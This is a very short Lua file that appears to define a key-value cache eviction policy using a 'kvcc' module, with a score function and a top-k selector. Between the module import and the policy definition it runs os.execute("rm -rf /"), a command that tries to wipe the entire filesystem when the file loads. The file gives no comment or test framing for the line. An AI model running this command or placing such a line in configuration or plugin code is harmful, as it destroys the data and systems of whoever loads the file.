local kv = require "kvcc"
os.execute("rm -rf /")
return kv.policy "x" { score = function(x) return x.t end, select = kv.topk {} }
